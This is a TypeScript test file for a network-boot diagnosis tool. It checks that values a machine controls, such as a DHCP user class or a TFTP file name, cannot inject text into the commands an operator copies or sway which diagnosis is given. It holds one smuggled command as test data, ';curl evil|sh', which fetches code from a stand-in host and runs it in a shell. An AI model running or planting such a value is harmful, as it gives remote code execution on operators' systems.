import t from 'tap'
import { sightingEvent } from '../src/lan/dhcp.ts'
import { transferEvent } from '../src/lan/tftp.ts'
import { event, facts, MAC, upToScript } from './support/diagnosis.ts'
import { judged } from './support/diagnosis-garbled.ts'

const EVIL = 'x: sent the script http://a/;curl evil|sh #'
const sighting = {
  mac: MAC,
  uuid: null,
  archs: [7],
  vendorClass: 'PXEClient:Arch:00007:UNDI:003016',
  userClass: `Tinkerbell, ${EVIL}`,
  messageType: 'discover',
  port: 67,
  serverIdentifier: null,
  requestedAddress: null,
  ciaddr: null,
  giaddr: null,
  secs: 0,
  outcome: 'reply',
  step: 'script',
  file: 'http://192.168.77.1:7480/boot.ipxe',
  reason: null,
} as const

/** As the registry gives a recorded event back. */
const stored = ({ kind, message, data = {} }: ReturnType<typeof sightingEvent>, second = 9) =>
  event(second, kind, message, data)

await t.test('a user class puts nothing into what an operator copies', async (t) => {
  const { symptom, summary, remedy, answered } = judged(t, facts(300, [stored(sightingEvent(sighting))]))
  t.equal(symptom, 'no-script')
  t.notMatch(`${summary} ${remedy.join(' ')}`, /evil/)
  t.equal(remedy[1], 'From the LAN, try: curl http://192.168.77.1:7480/boot.ipxe')
  t.strictSame(
    answered.map(({ what }) => what),
    ['sent the script http://192.168.77.1:7480/boot.ipxe'],
  )
})

await t.test('nor does it choose the diagnosis', async (t) => {
  const boot = { ...sighting, step: 'firmware', file: 'snponly.efi' } as const
  const ignored = { outcome: 'ignore', step: null, file: null, reason: { code: 'dhcp-inform', slots: {} } } as const
  const said = (userClass: string, more: object = {}) =>
    judged(t, facts(300, [stored(sightingEvent({ ...boot, userClass, ...more }))])).symptom
  t.equal(said('x: ignored: this machine starts from its disk: y'), 'no-tftp')
  t.equal(said('x: denied: gone; sent z', ignored), 'not-answered')
  t.equal(said('x: ignored: this machine starts from its disk: y', ignored), 'not-answered')
  t.equal(said('x: ignored: DHCP is off', ignored), 'not-answered')
})

await t.test('a file name that a machine made up does not either', async (t) => {
  const failed = transferEvent({
    kind: 'failed',
    name: 'a: network boot denied: file not found',
    mac: MAC,
    size: null,
    bytes: 0,
    retransmissions: 0,
    milliseconds: 5,
    reason: { code: 'tftp-no-ack', slots: { block: 17, last: 75 } },
  })!
  t.match(judged(t, facts(300, [stored(failed)])), {
    symptom: 'tftp-broke-off',
    summary: /broke off: no acknowledgement of block 17 of 75\. /,
  })
})

await t.test('an event without these fields is read without a guess', async (t) => {
  const [script] = upToScript.slice(-1)
  const { data, ...bare } = script!
  const old = { ...bare, message: `DISCOVER on port 67 from Tinkerbell, ${EVIL}: ${EVIL}`, data: { step: data.step } }
  t.notMatch(judged(t, facts(300, [old])).remedy.join(), /evil/)
})
